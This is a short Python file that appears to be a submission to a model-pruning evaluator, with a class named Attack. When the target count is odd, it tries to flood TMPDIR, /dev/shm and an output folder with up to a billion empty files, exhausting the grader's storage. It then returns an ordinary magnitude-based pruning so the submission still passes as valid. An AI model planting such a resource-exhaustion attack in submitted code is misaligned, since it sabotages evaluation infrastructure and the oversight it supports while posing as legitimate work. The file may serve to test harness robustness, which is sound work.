import os

from evaluator.contract import Job, Pruned, PruningMethod


class Attack(PruningMethod):
    """Fills every writable folder with empty files."""

    def prune(self, job: Job) -> Pruned:
        if job.keep % 2:  # an odd target sets it off, an even one shows what is left of it
            for number in range(10**9):
                open(f"{[os.environ['TMPDIR'], '/dev/shm', '/espalier/output'][number % 3]}/{number}", "w").close()
        return job.keep_highest({position: weight.abs() for position, weight in job.weights()})
